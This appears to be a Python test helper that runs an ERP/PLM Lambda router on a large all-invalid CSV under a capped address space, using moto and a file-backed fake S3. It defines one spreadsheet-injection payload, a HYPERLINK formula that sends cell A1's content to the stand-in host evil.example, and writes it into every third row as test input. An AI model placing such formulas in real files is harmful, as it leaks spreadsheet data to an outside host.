"""Child process of ``test_memory.py``: route a large CSV whose every row is invalid with the
process's address space capped (``RLIMIT_AS``) at what it uses after a warm-up plus a budget,
lift the cap, and print one JSON line saying what landed.

DynamoDB is moto's; S3 is ``DiskS3``, a stand-in that keeps objects in files. moto keeps every
object in memory, and four copies of one at CompleteMultipartUpload, which would measure moto,
not the router. The router's code, its S3 adapter (``S3Upload``) included, runs unchanged.

    python -m tests.lambdas.erp_plm_router.large_invalid_file MIB BUDGET_MIB
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import sys
import tempfile
import time
from pathlib import Path

HEADER = "document_id,revision,issued_at,material_id,description,material_type,base_uom\n"
KEY = "inbound/erp/material-master/large.csv"
FORMULA = '"=HYPERLINK(""http://evil.example/?d=""&A1,""open"")'
MIN_PART_BYTES = 5 * 2**20  # S3's smallest part but the last (userguide/qfacts.html)


def row(i: int) -> str:
    """A material whose type is SAP's code, not the MES name: every row is rejected."""
    padding = "x" * 250  # a description of a realistic length
    description = f'{FORMULA} {padding}"' if i % 3 == 0 else f'"-{i} {padding}"'
    return f"M-{i},1,1763800000000,M-{i},{description},ROH,PC\n"


class DiskS3:
    """The S3 calls of the router's adapter, on files under ``root``."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def _path(self, bucket: str, key: str) -> Path:
        path = self.root / bucket / key
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    def get_object(self, Bucket, Key, VersionId=None):  # noqa: N803 (boto3's names)
        return {"Body": self._path(Bucket, Key).open("rb")}

    def copy_object(self, Bucket, Key, CopySource):  # noqa: N803
        shutil.copyfile(
            self._path(CopySource["Bucket"], CopySource["Key"]), self._path(Bucket, Key)
        )

    def put_object(self, Bucket, Key, Body, ContentType=None):  # noqa: N803
        self._path(Bucket, Key).write_bytes(Body)

    def create_multipart_upload(self, Bucket, Key, ContentType=None):  # noqa: N803
        upload = tempfile.mkdtemp(dir=self.root)
        return {"UploadId": upload}

    def upload_part(self, Bucket, Key, UploadId, PartNumber, Body):  # noqa: N803
        (Path(UploadId) / f"{PartNumber:05d}").write_bytes(Body)
        return {"ETag": f'"{PartNumber}"'}

    def complete_multipart_upload(self, Bucket, Key, UploadId, MultipartUpload):  # noqa: N803
        parts = [Path(UploadId) / f"{p['PartNumber']:05d}" for p in MultipartUpload["Parts"]]
        if any(part.stat().st_size < MIN_PART_BYTES for part in parts[:-1]):
            raise ValueError("EntityTooSmall")
        with self._path(Bucket, Key).open("wb") as out:
            for part in parts:
                with part.open("rb") as data:
                    shutil.copyfileobj(data, out)
        shutil.rmtree(UploadId)

    def abort_multipart_upload(self, Bucket, Key, UploadId):  # noqa: N803
        shutil.rmtree(UploadId)


def write_large_file(path: Path, mib: int) -> int:
    rows = 0
    with path.open("w") as out:
        out.write(HEADER)
        while out.tell() < mib * 2**20:
            out.write(row(rows))
            rows += 1
    return rows


def notification(bucket: str, key: str) -> dict:
    body = {
        "Records": [
            {
                "eventName": "ObjectCreated:Put",
                "s3": {"bucket": {"name": bucket}, "object": {"key": key, "versionId": "v1"}},
            }
        ]
    }
    return {
        "messageId": f"m-{key}",
        "receiptHandle": "r",
        "body": json.dumps(body),
        "attributes": {},
        "messageAttributes": {},
        "md5OfBody": "",
        "eventSource": "aws:sqs",
        "eventSourceARN": "arn:aws:sqs:eu-central-1:123456789012:landing",
        "awsRegion": "eu-central-1",
    }


def address_space() -> int:
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError("no VmSize in /proc/self/status")


def main(mib: int, budget_mib: int, root: Path) -> None:
    os.environ.update(
        AWS_ACCESS_KEY_ID="testing",
        AWS_SECRET_ACCESS_KEY="testing",
        AWS_SESSION_TOKEN="testing",
        AWS_DEFAULT_REGION="eu-central-1",
    )
    from moto import mock_aws

    from lambdas.common import aws
    from lambdas.erp_plm_router import s3_handler
    from tests.lambdas.conftest import LambdaContext
    from tests.lambdas.erp_plm_router import conftest as world

    for var, value in world.ENV.items():
        os.environ[var.value] = value
    disk = DiskS3(root)
    moto_client = aws.client
    with mock_aws():
        world.clear_caches()
        world.create_world()
        aws.client = lambda service: disk if service == "s3" else moto_client(service)
        for module in sys.modules.values():  # every ``from lambdas.common.aws import client``
            if getattr(module, "client", None) is moto_client and module is not aws:
                module.client = aws.client
        bucket = world.BUCKET
        warm_up = "inbound/erp/material-master/warm-up.csv"
        disk._path(bucket, warm_up).write_text(HEADER + row(1) + row(2))
        s3_handler.lambda_handler({"Records": [notification(bucket, warm_up)]}, LambdaContext())
        rows = write_large_file(disk._path(bucket, KEY), mib)

        soft, hard = resource.getrlimit(resource.RLIMIT_AS)
        resource.setrlimit(resource.RLIMIT_AS, (address_space() + budget_mib * 2**20, hard))
        started = time.perf_counter()
        try:
            event = {"Records": [notification(bucket, KEY)]}
            response = s3_handler.lambda_handler(event, LambdaContext())
        except MemoryError:
            response = "MemoryError"
        seconds = time.perf_counter() - started
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))

        found = {"rows": rows, "response": response, "seconds": round(seconds, 1)}
        quarantine = root / bucket / KEY.replace("inbound/", "quarantine/", 1)
        report_path = quarantine.with_name(quarantine.name + ".error.json")
        if report_path.exists():
            report = json.loads(report_path.read_text())
            with quarantine.open() as rejects:
                first_rows = [next(rejects).rstrip("\n") for _ in range(3)]
                quarantined_rows = 3 + sum(1 for _ in rejects) - 1
            found |= {
                "report_rejected": report["rejected"],
                "report_errors": len(report["errors"]),
                "report_lines": sorted({e["line"] for e in report["errors"]})
                == list(range(2, rows + 2)),
                "fields": sorted({e["field"] for e in report["errors"]}),
                "quarantined_rows": quarantined_rows,
                "first_rows": first_rows,
            }
        print(json.dumps(found))


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as folder:
        main(int(sys.argv[1]), int(sys.argv[2]), Path(folder))
